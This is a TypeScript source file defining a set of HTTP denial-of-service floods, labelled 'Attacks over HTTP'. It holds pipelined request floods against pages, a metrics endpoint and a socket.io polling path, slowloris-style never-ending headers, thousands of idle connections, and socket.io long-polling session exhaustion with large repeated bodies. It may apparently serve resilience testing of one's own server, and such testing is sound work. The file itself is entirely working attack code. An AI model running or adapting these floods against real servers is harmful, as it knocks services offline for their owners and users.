import { setTimeout as delay } from 'node:timers/promises'
import {
  holdUntil,
  openMany,
  openNext,
  PAUSE_MS,
  repeat,
  type Flood,
  type FloodOutcome,
  type FloodTarget,
} from './flood.ts'
import { RawLine } from './raw-line.ts'

const REQUESTS_PER_WRITE = 500
const PIPELINES = 8
// More than one address may have.
const IDLE_LINES = 5000
const POLLERS = 16
const BODY_BYTES = 60_000
const POLLING = '/socket.io/?EIO=4&transport=polling'

const openLine = async ({ url, from }: FloodTarget): Promise<RawLine | undefined> =>
  await RawLine.open(url, from)

const hostOf = ({ url }: FloodTarget): string => new URL(url).host

/** Asks for the same page again and again without waiting for an answer. */
function pipeline(path: string): Flood {
  return async (target) => {
    const request = `GET ${path} HTTP/1.1\r\nHost: ${hostOf(target)}\r\n\r\n`
    const bytes = Buffer.from(request.repeat(REQUESTS_PER_WRITE))
    return await repeat(PIPELINES, target.until, async () => {
      const outcome = { opened: 0, stopped: 0 }
      const line = await openNext(() => openLine(target), outcome)
      await line?.pour(bytes, target.until)
      if (line && !line.isOpen) outcome.stopped += 1
      line?.cut()
      return outcome
    })
  }
}

/** Headers that come a byte at a time and never end. */
const slowHeaders: Flood = async (target) => {
  const lines = await openMany(() => openLine(target), IDLE_LINES, target.until)
  for (const line of lines.opened) line.write(`GET / HTTP/1.1\r\nHost: ${hostOf(target)}\r\nX-Slow: `)
  return await holdUntil(lines, target.until, (line) => line.write('a'))
}

/** Connections that say nothing. */
const idleLines: Flood = async (target) =>
  await holdUntil(await openMany(() => openLine(target), IDLE_LINES, target.until), target.until)

/** Sends one request over a line of its own, and tells what was answered; undefined when it was cut. */
async function ask(
  target: FloodTarget,
  request: { method: 'GET' | 'POST'; sid?: string; body?: string },
  sign: RegExp,
): Promise<string | undefined> {
  const line = await openLine(target)
  const { method, sid, body = '' } = request
  line?.write(
    `${method} ${POLLING}${sid === undefined ? '' : `&sid=${sid}`} HTTP/1.1\r\nHost: ${hostOf(target)}\r\n` +
      `Connection: close\r\nContent-Type: text/plain\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
  )
  const found = await line?.expect(sign)
  line?.cut()
  return found
}

/** Opens a session of HTTP long-polling; undefined when it is refused. */
async function openSession(target: FloodTarget): Promise<string | undefined> {
  const found = await ask(target, { method: 'GET' }, /"sid":"[\w-]+"|HTTP\/1\.1 [45]\d\d/)
  return found?.startsWith('"sid"') === true ? found.slice('"sid":"'.length, -1) : undefined
}

/** Sessions of HTTP long-polling, of which nobody ever asks for anything again. */
const pollingOpens: Flood = async (target) =>
  await repeat(POLLERS, target.until, async () => {
    const outcome: FloodOutcome = { opened: 0, stopped: 0 }
    await openNext(() => openSession(target), outcome)
    return outcome
  })

/** Sessions of HTTP long-polling to which large bodies are posted, again and again. */
const pollingBodies: Flood = async (target) =>
  await repeat(POLLERS, target.until, async () => {
    const outcome: FloodOutcome = { opened: 0, stopped: 0 }
    const sid = await openNext(() => openSession(target), outcome)
    if (sid === undefined) return outcome
    const body = `42["room:join","${'x'.repeat(BODY_BYTES)}"]`
    while (performance.now() < target.until) {
      const status = await ask(target, { method: 'POST', sid, body }, /HTTP\/1\.1 \d+/)
      if (status?.endsWith('200') === true) continue
      outcome.stopped += 1
      await delay(PAUSE_MS)
      break
    }
    return outcome
  })

/** Attacks over HTTP. */
export const HTTP_FLOODS = {
  pipelinedPages: pipeline('/'),
  pipelinedMetrics: pipeline('/metrics'),
  pipelinedPolls: pipeline(POLLING),
  slowHeaders,
  idleLines,
  pollingOpens,
  pollingBodies,
}
